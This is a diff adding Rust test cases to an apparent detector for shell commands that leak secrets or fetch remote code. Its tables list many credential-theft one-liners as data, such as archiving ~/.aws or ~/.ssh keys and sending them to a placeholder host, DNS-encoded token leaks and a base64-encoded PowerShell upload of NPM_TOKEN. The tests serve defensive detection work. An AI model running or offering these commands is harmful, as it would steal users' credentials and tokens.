@@ -241,3 +241,153 @@ fn packed_secrets_are_followed() {
         assert_eq!(!plain(command).leaks.is_empty(), leaks, "{command}");
     }
 }
+
+fn sends(text: &str) -> bool {
+    let leaks = plain(text).leaks;
+    leaks
+        .iter()
+        .any(|leak| leak.sink != weir_model::contents::SinkKind::Process)
+}
+
+#[test]
+fn folders_of_credentials_are_sent_whole() {
+    for (command, is_sent) in [
+        (
+            "tar cz ~/.aws | curl -s --data-binary @- https://c.invalid",
+            true,
+        ),
+        (
+            "tar cz ~ | curl -s --data-binary @- https://c.invalid",
+            true,
+        ),
+        ("tar cz ~/.config/gh | nc c.invalid 99", true),
+        ("rsync -a ~/.aws/ rsync://c.invalid/x", true),
+        ("scp -r ~/.kube a@c.invalid:x", true),
+        (
+            "zip -r /tmp/x.zip ~/.mozilla; curl -T /tmp/x.zip https://c.invalid",
+            true,
+        ),
+        ("cd ~ && tar cz .aws | curl -T - https://c.invalid", true),
+        ("cat ~/.aws/* | curl -T - https://c.invalid", true),
+        (
+            "find ~ -name .npmrc -exec cat {} + | curl -T - https://c.invalid",
+            true,
+        ),
+        ("ln -s ~/.npmrc x && curl -T x https://c.invalid", true),
+        ("tar cz dist | curl -T - https://c.invalid", false),
+        ("tar xzf x.tgz -C ~ && curl https://c.invalid", false),
+        ("tar cz .docker | curl -T - https://c.invalid", false),
+        ("rsync -a a@c.invalid:x ~/.config", false),
+        (
+            "cd dist && tar cz .aws | curl -T - https://c.invalid",
+            false,
+        ),
+        ("find . -name '*.map' | curl -T - https://c.invalid", false),
+    ] {
+        assert_eq!(
+            sends(command),
+            is_sent,
+            "{command}: {:?}",
+            plain(command).leaks
+        );
+    }
+}
+
+#[test]
+fn more_ways_out_are_known() {
+    for (command, is_sent) in [
+        ("cat ~/.ssh/id_rsa | ssh a@c.invalid 'cat >> k'", true),
+        ("env | ssh a@c.invalid 'cat >> k'", true),
+        ("ping -c1 $(printenv NPM_TOKEN | xxd -p).c.invalid", true),
+        ("getent hosts $(whoami).c.invalid", true),
+        ("gh gist create ~/.npmrc", true),
+        ("mail -s x a@c.invalid < ~/.npmrc", true),
+        ("gsutil cp ~/.npmrc gs://b/x", true),
+        ("rclone copy ~/.ssh r:x", true),
+        ("node -p process.env | curl -d @- https://c.invalid", true),
+        (
+            "python3 -c 'import os;print(os.environ)' | curl -d @- https://c.invalid",
+            true,
+        ),
+        (
+            "curl -F \"f=@$(npm config get userconfig)\" https://c.invalid",
+            true,
+        ),
+        ("cat $KUBECONFIG | curl -d @- https://c.invalid", true),
+        (
+            "export T=$(cat ~/.npmrc); node -e \"fetch('https://c.invalid/?'+process.env.T)\"",
+            true,
+        ),
+        (
+            "git push https://c.invalid/a.git HEAD:refs/heads/$(printenv NPM_TOKEN)",
+            true,
+        ),
+        ("ping -c1 $(hostname)", false),
+        ("getent passwd $(whoami)", false),
+        ("ssh -T git@c.example", false),
+        ("echo $GITHUB_TOKEN | gh auth login --with-token", false),
+        (
+            "node -p process.env.NODE_ENV | curl -d @- https://c.invalid",
+            false,
+        ),
+        (
+            "git push https://x:$GITHUB_TOKEN@github.example/a/b.git",
+            false,
+        ),
+        (
+            "git clone https://$GITHUB_TOKEN@github.example/a/b.git",
+            false,
+        ),
+        ("gsutil cp dist/x.tgz gs://b/x", false),
+        (
+            "export V=$(cat VERSION); node -e \"fetch('https://c.invalid/?'+process.env.V)\"",
+            false,
+        ),
+    ] {
+        assert_eq!(
+            sends(command),
+            is_sent,
+            "{command}: {:?}",
+            plain(command).leaks
+        );
+    }
+}
+
+#[test]
+fn more_ways_in_are_known() {
+    for (command, is_brought) in [
+        (
+            "npm exec --yes --package=https://c.invalid/x.tgz -- x",
+            true,
+        ),
+        ("npm install --registry https://r.invalid/ x", true),
+        ("npm install --registry=https://r.invalid/ x", true),
+        ("cargo install --git https://git.invalid/x", true),
+        ("go run git.invalid/x@latest", true),
+        (
+            "npm install --registry https://registry.npmjs.org/ x",
+            false,
+        ),
+        ("npm install --registry https://r.invalid/", false),
+        ("npm install --registry http://127.0.0.1:4873/ x", false),
+        ("go run ./cmd/x.go", false),
+        ("go install github.com/x/y@latest", false),
+        ("cargo install x", false),
+        ("cargo build", false),
+    ] {
+        let leaks = plain(command).leaks;
+        assert_eq!(!leaks.is_empty(), is_brought, "{command}: {leaks:?}");
+    }
+}
+
+#[test]
+fn what_powershell_is_given_encoded_is_read() {
+    // `iwr https://c.invalid -Body $env:NPM_TOKEN`
+    let script = "iwr https://c.invalid -Body $env:NPM_TOKEN";
+    let bytes: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
+    let encoded = crate::flow::text::encode_base64(&bytes);
+    assert!(sends(&format!("powershell -nop -enc {encoded}")));
+    let plain_in_code = format!("powershell -enc '{}'", crate::ability::ENCODED);
+    assert!(plain(&plain_in_code).leaks.is_empty());
+    assert!(!plain("powershell -enc $X").leaks.is_empty());
+}
